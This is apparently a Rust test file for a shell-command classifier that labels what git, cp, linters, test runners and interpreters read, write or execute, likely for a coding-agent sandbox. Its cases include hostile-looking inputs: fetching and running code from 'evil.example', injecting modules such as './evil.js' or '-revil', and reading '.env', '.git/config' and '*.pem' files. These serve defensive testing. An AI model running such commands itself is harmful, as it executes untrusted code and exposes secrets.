//! What is known of single programs and of their options, each beside what is not.

use super::examined;
use pretty_assertions::assert_eq;

fn check(cases: &[(&str, &str)]) {
    let found: Vec<_> = cases.iter().map(|(text, _)| (*text, examined(text, "."))).collect();
    let expected: Vec<_> = cases.iter().map(|(text, seen)| (*text, (*seen).to_owned())).collect();
    assert_eq!(found, expected);
}

#[test]
fn git_removes_and_moves_the_files_that_it_names() {
    check(&[
        ("git rm a b/c", "deep >a >b/c"),
        ("git rm -r -q .github", "deep >.github"),
        ("git rm -rfq --cached --ignore-unmatch -- a", "deep >a"),
        ("git rm -r .", "deep >!."),
        ("git rm ../a", "deep >!../a"),
        ("git rm *.yml", "deep !2 >*.yml"),
        ("git rm :/.github", "deep !2 >:/.github"),
        ("git rm --pathspec-from-file=a", "deep !2"),
        ("git mv a .github/b", "deep >a >.github/b >?.github/b/a"),
        ("git mv -f -k -v a b", "deep >a >b >?b/a"),
        ("git mv --unheard a b", "deep !2 >a >b >?b/a"),
        ("git restore :(top)a", "deep !2 >:(top)a"),
        ("git checkout -- a/*.yml", "deep !3 >a/*.yml"),
    ]);
}

#[test]
fn what_is_put_into_a_folder_keeps_its_name() {
    check(&[
        ("cp docs/AGENTS.md src", "<docs/AGENTS.md >src >?src/AGENTS.md"),
        ("cp docs/AGENTS.md src/a.md", "<docs/AGENTS.md >src/a.md"),
        (
            "cp docs/AGENTS.md b src/a.md",
            "<docs/AGENTS.md <b >src/a.md >?src/a.md/AGENTS.md >?src/a.md/b",
        ),
        ("cp -T docs/AGENTS.md src", "<docs/AGENTS.md >src"),
        ("cp -r docs/. src/", "deep held <docs >src"),
        ("cp -r docs/.cargo/ src", "deep held <docs/.cargo >src >?src/.cargo"),
        ("mv docs/AGENTS.md src", "deep >docs/AGENTS.md >src >?src/AGENTS.md"),
        ("mv a /tmp/b", "deep >a >!/tmp/b"),
    ]);
}

#[test]
fn an_address_is_no_file_of_the_repository() {
    check(&[
        ("go tool pprof -top -base=a.out cpu.out", "only held <a.out <cpu.out"),
        ("go tool pprof -top -base=evil.example:1/x a", "only held !4 <evil.example:1/x <a"),
        ("go tool pprof -top -base http://e/x a", "only held !4 <!http://e/x <a"),
        ("go tool pprof -top evil.example:1/x", "only held !4 <evil.example:1/x"),
        ("xmllint --schema=a.xsd a.xml", "only <a.xsd <a.xml"),
        ("xmllint --schema=http://e/x a.xml", "only <!http://e/x <a.xml"),
        ("xmllint http://e/x", "only <!http://e/x"),
        ("deno a.ts", "code deep <a.ts"),
        ("deno https://evil.example/x.ts", "code deep ?all"),
        ("deno npm:evil/x.ts", "code deep ?all"),
        ("bun https://evil.example/x.ts", "code deep ?all"),
        ("node --test https://evil.example/x.ts", "code deep ?all"),
    ]);
}

#[test]
fn every_program_with_a_table_may_be_asked_for_its_options() {
    check(&[
        ("gawk --help", "only"),
        ("mawk --help", "only"),
        ("gawk --help x", "only ?1"),
        ("timeout --help", "only"),
        ("env --help", "only"),
        ("env --help ls", "code deep !all"),
        ("nice --help", "only"),
        ("npx --help", "code"),
        ("npx --help x", "code deep !all"),
        ("uv run --help", "code"),
        ("poetry run --help", "code"),
        ("coverage run --help", "code"),
        ("coverage run --help -m x", "code deep ^4 ^4"),
        ("command --help", "deep never"),
        ("sudo --help", "code deep !all"),
    ]);
}

#[test]
fn coverage_starts_python() {
    check(&[
        ("coverage run -m pytest -q", "code ^3"),
        ("coverage run -p --branch --source=src -m pytest -x", "code ^6"),
        ("coverage run -m twine upload a", "code deep ^3 ^3"),
        ("coverage run a.py b", "code deep ^2 <a.py"),
        ("coverage run /tmp/a.py", "code deep ^2 ^2 ?2 <!/tmp/a.py"),
        ("coverage run scripts/publish.py", "code deep ^2 ^2 <scripts/publish.py"),
        ("coverage run -c x", "code deep !2"),
        ("coverage run", "code deep !all"),
        ("coverage run --unheard -m pytest", "code deep !2"),
        ("coverage run --rcfile=/tmp/a -m pytest", "code ^4 <!/tmp/a"),
        ("coverage html -d /tmp/a", "code >!/tmp/a"),
        ("coverage xml -o .github/a", "code >.github/a"),
        ("coverage report -m --skip-covered", "code"),
        ("coverage report --unheard", "code !2"),
        ("coverage combine a", "code <a >a"),
        ("coverage combine --keep a", "code <a"),
        ("coverage frobnicate", "code !1"),
        ("python -m cProfile -s cumtime a.py b", "code <a.py"),
        ("python -m cProfile -m pytest -q", "code ^4"),
        ("python3 -m cProfile -o .github/a -m pytest -q", "code ^6 >.github/a"),
        ("python -m cProfile -m http.server", "code deep ^4 ^4"),
        ("python -m cProfile --unheard -m pytest", "code deep !3"),
        ("python -m cProfile -m", "code deep !all"),
        ("uv run python -m cProfile -m pip", "code deep ^7 ^6 ^6 ^2"),
        ("python -m coverage run -m pytest", "code ^5 ^2"),
        ("coverage --version", "code"),
    ]);
}

#[test]
fn a_file_of_arguments_is_none_that_is_known() {
    check(&[
        ("javac @docs/args", "code !1 <@docs/args"),
        ("javac -d /tmp/a src/A.java", "code <src/A.java >!/tmp/a"),
        ("pytest -k @a", "code !2"),
        ("python -m pytest -k @a", "code !4"),
        ("jar tf @a", "only !2 <@a"),
        ("jar --list @a", "only !2"),
        ("jar tf a.jar", "only <a.jar"),
        ("dotnet run @a", "code !2"),
        ("ruff rule @a", "only !2"),
        ("rustc @a", "code !1 !1 !2 <@a"),
        ("cargo clippy -- @a", "code !3"),
        ("cargo test @a", "code"),
        ("eslint @a", "code !1 <@a"),
        ("pnpm why @acme/core", "code"),
        ("npm ls @acme/core", "only"),
        ("npm test -w @acme/core -- @smoke", "code"),
        ("git log @", "only deep <?@"),
        ("git log @{u}", "only deep <?@{u}"),
    ]);
}

#[test]
fn a_script_of_a_package_is_given_nothing_from_elsewhere() {
    check(&[
        ("npm test -- --config=/tmp/x.ts", "code !3"),
        ("npm run lint -- -c /tmp/x.js", "code !5"),
        ("npm run lint -- -c ../x.js", "code !5"),
        ("npm run lint -- -c a.js --fix", "code"),
        ("npm test -- --outputFile=/tmp/x.json", "code >!/tmp/x.json"),
        ("npm test -- --outputFile=.github/x.json", "code >.github/x.json"),
        ("npm run build -- --outDir /tmp/x", "code >!/tmp/x"),
        ("npm run build -- --outDir .github", "code >.github"),
        ("npm run build -- --outDir a --config /tmp/x", "code !7 >a"),
        ("npm run build -- --config /tmp/x --outDir=/tmp/y", "code !5 >!/tmp/y"),
        ("yarn test -- --config=/tmp/x", "code !3 <?--config=/tmp/x"),
        ("pnpm run lint -- --config=/tmp/x", "code !4 <?lint <?--config=/tmp/x"),
        ("pnpm test -- src/a.test.ts", "code <?src/a.test.ts"),
    ]);
}

#[test]
fn what_looks_further_is_left_to_the_sandbox() {
    check(&[
        ("git show --stat-width=120 HEAD", "only deep <?HEAD"),
        ("git diff --stat-name-width 80 --stat-count=3", "only deep"),
        ("git diff --no-index a b", "only deep held <a <b"),
        ("git diff --no-index -- a /etc/b", "only deep held <a <!/etc/b"),
        ("git diff --no-index a b c", "only deep held !5 <a <b <c"),
        ("git diff -- --no-index a", "only deep <--no-index <a"),
        ("git log --no-index a b", "only deep !2 <?a <?b"),
        ("git check-attr -a a", "only deep"),
        ("git check-ignore -v .env", "only deep"),
        ("git check-attr --stdin", "only deep !2"),
        ("rg --hidden -g !.git x", "only deep held <."),
        ("rg -uu x src", "only deep held <src"),
        ("rg -uuu x src", "only deep !1 <src"),
        ("rg --no-ignore x .env", "only deep held <.env"),
        ("rg -- --hidden src", "only deep <src"),
        ("grep -RIl x src", "only deep held <src"),
        ("grep --dereference-recursive x", "only deep held <."),
        ("grep -R x /etc", "only deep held <!/etc"),
    ]);
}

#[test]
fn what_a_pattern_is_about_and_what_lies_in_the_folder_of_git_is_read() {
    check(&[
        ("grep -r x .git", "only deep <.git <.git/config"),
        ("grep x .git", "only <.git"),
        ("rg x a/.git", "only deep <a/.git <a/.git/config"),
        ("rg --files .git", "only deep <.git"),
        ("ls -R .git", "only deep <.git"),
        ("diff -r .git a", "only deep held <.git <a <.git/config"),
        ("cp -r .git a", "deep held <.git <.git/config >a >?a/.git"),
        ("cp .git/HEAD a", "<.git/HEAD >a >?a/HEAD"),
        ("grep -r x --include=.env* src", "only deep <src <src/.env"),
        ("grep -r x --exclude=.env* src", "only deep <src"),
        ("rg -g .env* x", "only deep <. <.env"),
        ("rg --files -g .env*", "only deep <."),
        ("find . -name .env -exec cat {} +", "only deep held ^4 <. <. <.env"),
        ("find .git -exec head {} ;", "only deep held ^2 <.git <.git <.git/config"),
        ("git log -- *.pem", "only deep <*.pem <.pem"),
        ("git ls-files *.pem", "only deep <?*.pem"),
        ("ruby -c lib", "code deep <lib"),
        ("ruby lib", "code deep ?all"),
        ("node --check lib", "code deep <lib"),
        ("find lib -exec ruby -c {} ;", "code deep held ^2 <lib <lib"),
    ]);
}

#[test]
fn sed_keeps_the_old_file_beside_the_new_one() {
    check(&[
        ("sed -i.bak s/a/b/ a", "<a >a >a.bak"),
        ("sed -Ei.bak s/a/b/ a b", "<a <b >a >b >a.bak >b.bak"),
        ("sed --in-place=.orig s/a/b/ a", "<a >a >a.orig"),
        ("sed -ni p a", "<a >a"),
        ("sed -i.b/c s/a/b/ a", "only !1 <a"),
        ("sed -i*.bak s/a/b/ a", "only !1 <a"),
        ("sed -i s/a/b/ .", "<. >!."),
        ("sed -ie s/a/b/ a", "only !1 <a"),
        ("sed -i.yml s/a/b/ .github/ci", "<.github/ci >.github/ci >.github/ci.yml"),
        ("sed -e $a\\ a", "only <a"),
        ("sed -e $a\\ -e p a", "only !2 <a"),
    ]);
}

#[test]
fn tests_and_builds_write_where_their_options_say() {
    check(&[
        ("pytest -o addopts= -q", "code"),
        ("pytest -o addopts=-pevil", "code !1"),
        ("pytest --cov=src --cov-report=html:.github/a", "code >.github/a"),
        ("pytest --cov --cov-report xml:/tmp/a.xml --cov-report term", "code >!/tmp/a.xml"),
        ("vitest run --outputFile=/tmp/a.json", "code <?run >!/tmp/a.json"),
        ("vitest run --outputFile=.github/a.json", "code <?run >.github/a.json"),
        ("vitest run --reporter=/tmp/a.js", "code !2 <?run"),
        ("jest --json --outputFile a.json", "code >a.json"),
        ("rspec --format json --out .github/a", "code >.github/a"),
        ("tsc -b --dry", "code"),
        ("rustc --explain E0502", "code"),
        ("rustc --print cfg", "code"),
        ("rustc --print cfg=a", "code !1"),
        ("rustc --edition 2021 --crate-type lib src/a.rs -o /tmp/a", "code <src/a.rs >!/tmp/a"),
        ("rustc src/a.rs", "code !2 <src/a.rs"),
        ("rustc -o /tmp/a -", "code !3 >!/tmp/a"),
        ("rustc -C linker=/tmp/a src/a.rs -o a", "code !1 <src/a.rs >a"),
        ("rustc /tmp/a.rs -o /tmp/a", "code <!/tmp/a.rs >!/tmp/a"),
        ("go test -c -o /tmp/a ./a", "code <?a >!/tmp/a"),
        ("go test -c -o .github/a ./a", "code <?a >.github/a"),
        ("go test -run TestA -update ./a", "code <?a"),
        ("go tool cover -func=/tmp/c.out", "held <!/tmp/c.out"),
        ("go tool cover -html=c.out -o /tmp/c.html", "held <c.out >!/tmp/c.html"),
        ("go tool cover -mode=set a.go", "held !3 !4"),
        ("go tool nm a", "only <a"),
        ("go tool compile a.go", "code !2"),
        ("rake spec SPEC=spec/a_spec.rb", "code <spec/a_spec.rb"),
        ("rake spec SPEC=/tmp/a_spec.rb", "code <!/tmp/a_spec.rb"),
        ("rake spec SPEC_OPTS=-rx", "code !2"),
        ("make SPEC=spec/a", "code !1"),
        ("./gradlew test -Dtest.single=Parser", "code"),
        ("./gradlew test -Dx=y", "code !2"),
        ("yard doc --no-save -o /tmp/a", "code >!/tmp/a"),
        ("yard doc -o .github", "code >.github"),
        ("cargo test --target-dir /tmp/a --lib", "code >!/tmp/a"),
        ("cargo test --target-dir=.git/hooks", "code >.git/hooks"),
        ("python -m sphinx -b html docs /tmp/a -q", "code <docs >!/tmp/a"),
        ("python -m sphinx -c /tmp/a docs out", "code !3 !6 <!/tmp/a <docs >out"),
        ("python -m timeit -s a b", "code !3 !4"),
    ]);
}

#[test]
fn interpreters_run_files_of_the_repository() {
    check(&[
        ("node --test --test-name-pattern=a tests/", "code deep <tests"),
        ("node --import tsx --test tests/a.test.ts b.js", "code deep <tests/a.test.ts <b.js"),
        ("node --test --test-reporter spec a", "code deep <a"),
        ("node --test --test-reporter ./a.js a", "code deep ?all"),
        ("node --test /tmp/a", "code deep ?2 <!/tmp/a"),
        ("node --test a -e x", "code deep ?all"),
        ("node --import ./evil.js --test a", "code deep ?all"),
        ("node --check a.js", "code deep <a.js"),
        ("ruby -Ilib:spec -rrspec/autorun spec/a.rb", "code deep <spec/a.rb"),
        ("ruby -r json a.rb", "code deep <a.rb"),
        ("ruby -revil a.rb", "code deep ?all"),
        ("ruby -Ilib:/tmp a.rb", "code deep ?1 <a.rb"),
        ("php -l src/A.php", "code deep <src/A.php"),
        ("php -d memory_limit=-1 vendor/bin/phpunit --testdox", "code deep <vendor/bin/phpunit"),
        ("php -d auto_prepend_file=a.php src/A.php", "code deep ?all"),
        ("php -d error_log=/tmp/x a.php", "code deep ?all ?2"),
        ("php -dmemory_limit=1G a.php", "code deep <a.php"),
        ("php vendor/bin/../../evil", "code deep ?all"),
        ("php vendor/bin/phpunit --configuration=/tmp/x", "code deep ?2 <vendor/bin/phpunit"),
        ("php -r a", "code deep ?all"),
        ("php -S localhost:1", "code deep ?all"),
        ("perl -pe s/a/b/ a", "code deep ?all"),
    ]);
}

#[test]
fn checkers_change_files_only_where_their_options_say_so() {
    check(&[
        ("shellcheck -x scripts/a.sh", "only held <scripts/a.sh"),
        ("shellcheck scripts/a.sh", "only <scripts/a.sh"),
        ("shellcheck --rcfile=a b.sh", "only !1 <b.sh"),
        ("shfmt -d -i 2 scripts", "<scripts"),
        ("shfmt -w -i 2 .github/a.sh", "<.github/a.sh >.github/a.sh"),
        ("shfmt -filename a", "<a"),
        ("clang-format -i src/a.cpp .github/b", "<src/a.cpp <.github/b >src/a.cpp >.github/b"),
        ("clang-format --dry-run --Werror src/a.cpp", "<src/a.cpp"),
        ("clang-format --files=a", "!1"),
        ("google-java-format -i src/A.java", "<src/A.java >src/A.java"),
        ("google-java-format @a", "!1 <@a"),
        ("ruff format", "<. >!."),
        ("ruff format --check", "<."),
        ("ruff check", "only <."),
        ("ruff check --fix", "<. >!."),
        ("ruff check --fix src", "<src >src"),
        ("ruff check --add-noqa", "<. >!."),
        ("typos", "<."),
        ("typos -w", "<. >!."),
        ("codespell --write-changes", "<. >!."),
        ("codespell -w docs", "<docs >docs"),
        ("black", ""),
        ("eslint --fix", "code <. >!."),
        ("eslint", "code <."),
        ("biome check --write", "code <. >!."),
        ("biome check", "code <."),
        ("prettier --write docs/*.md", "code <docs/*.md >*docs/*.md"),
        (
            "eslint --fix src/*.{ts,js} !src/a.ts",
            "code <src/*.{ts,js} <!src/a.ts >*src/*.js >*src/*.ts",
        ),
        ("prettier --write src/**/*.ts", "code <src/**/*.ts >src/**/*.ts >src"),
        ("prettier --write src/**", "code <src/** >src/** >src"),
        ("prettier --write **", "code <** >** >!."),
        ("ruff format --help", ""),
        ("eslint src/*.ts", "code <src/*.ts"),
        ("stylelint --fix **/*.css", "code <**/*.css >**/*.css >!."),
        ("stylelint --fix /tmp/*.css", "code <!/tmp/*.css >!/tmp/*.css"),
        ("autopep8 --in-place --recursive --max-line-length 100 src", "code <src >src"),
        ("python -m autopep8 -d src/a.py", "code <src/a.py"),
        ("autopep8 --global-config=/tmp/a src", "code !1 <src"),
        ("bandit -r src -ll", "code <src"),
        ("bandit -r src -o .github/a", "code <src >.github/a"),
        ("pycodestyle --config=/tmp/a src", "code !1 <src"),
        ("objdump -d build/a", "only held <build/a"),
        ("objdump -d @a", "only held !2 <@a"),
    ]);
}
